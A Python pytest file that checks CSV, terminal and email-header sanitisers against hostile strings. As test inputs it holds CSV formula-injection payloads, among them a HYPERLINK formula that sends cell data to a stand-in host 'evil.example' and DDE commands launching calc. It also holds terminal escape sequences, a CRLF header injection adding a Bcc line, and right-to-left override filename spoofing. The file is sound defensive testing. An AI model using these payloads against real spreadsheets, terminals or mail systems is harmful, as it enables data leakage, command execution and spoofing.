"""Hostile strings through the CSV, terminal and header sanitisers."""

from __future__ import annotations

import csv
import io

import pytest

from pipelines.safety import (
    HEADER_MAX_LEN,
    TERMINAL_MAX_LEN,
    csv_safe,
    header_safe,
    strip_bidi,
    terminal_safe,
)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\uff1d1+1",  # full-width equals sign
        "-",
        "+44 114 271 1900",
    ],
)
def test_formula_cells_get_an_apostrophe(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["-3.5", "+12", "-1,200.50", "-4%", "1e-3", "-.5", "Pay award 2026/27", "", "a=b", "5-3"],
)
def test_plain_numbers_and_text_are_kept(cell: str) -> None:
    assert csv_safe(cell) == cell


def test_a_safe_cell_survives_a_csv_round_trip() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_safe('=1+1,"x"'), csv_safe("-3.5")])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ['\'=1+1,"x"', "-3.5"]


def test_strip_bidi_removes_every_override_and_isolate() -> None:
    hostile = "invoice\u202egpj.exe \u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069done"
    assert strip_bidi(hostile) == "invoicegpj.exe done"


def test_strip_bidi_keeps_ordinary_right_to_left_text() -> None:
    assert strip_bidi("مرحبا שלום") == "مرحبا שלום"


@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        ("\x1b[31mred\x1b[0m text", "red text"),
        ("\x1b]0;new title\x07after", "after"),
        ("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("clear\x1b[2J\x1b[Hscreen", "clearscreen"),
        ("\x9b31mC1 csi", "C1 csi"),
        ("bell\x07 and null\x00 and del\x7f", "bell and null and del"),
        ("line one\r\nline two\rthree\nfour", "line one line two three four"),
        ("fake\rOK status", "fake OK status"),
        ("tab\there", "tab here"),
        ("para\u2028graph\u2029end\x85x", "para graph end x"),
        ("admin\u202e txt.exe", "admin txt.exe"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
        ("keep – dashes, £ and é", "keep – dashes, £ and é"),
    ],
)
def test_terminal_safe_removes_escapes_and_controls(hostile: str, expected: str) -> None:
    assert terminal_safe(hostile) == expected


def test_terminal_safe_truncates_long_lines() -> None:
    assert len(terminal_safe("x" * 50_000)) == TERMINAL_MAX_LEN
    cut = terminal_safe("word " * 10, max_len=12)
    assert cut == "word word w…"
    assert len(cut) == 12
    assert terminal_safe("short", max_len=12) == "short"


def test_terminal_safe_rejects_a_zero_length() -> None:
    with pytest.raises(ValueError, match="max_len"):
        terminal_safe("x", max_len=0)


def test_header_safe_blocks_header_injection() -> None:
    subject = "Digest\r\nBcc: everyone@example.org\r\n\r\nbody"
    safe = header_safe(subject)
    assert "\r" not in safe and "\n" not in safe
    assert safe == "Digest Bcc: everyone@example.org body"


def test_header_safe_is_bounded_and_clean() -> None:
    safe = header_safe("\x1b[1mBoard\x00  papers\u202e " + "long " * 200)
    assert len(safe) == HEADER_MAX_LEN
    assert safe.startswith("Board papers long")
    assert safe.endswith("…")
    assert all(ch.isprintable() for ch in safe)


def test_label_csv_export_defuses_formulas_from_papers() -> None:
    import csv
    import io

    from pipelines.analyst.labelling import LabelRecord, export_labels

    record = LabelRecord(
        label_id=1, item_id="abc-001", heading='=HYPERLINK("http://evil","click")',
        text="@SUM(A1:A9) staff side", purpose=None, workforce_impacting=True,
        categories=("restructuring",), labeller="-analyst", origin="cli",
        created_at="2026-11-23T10:00:00+00:00",
    )
    (row,) = csv.DictReader(io.StringIO(export_labels([record], "csv")))
    assert row["heading"].startswith("'=HYPERLINK")
    assert row["text"].startswith("'@SUM")
    assert row["labeller"] == "'-analyst"
    assert row["categories"] == "restructuring"
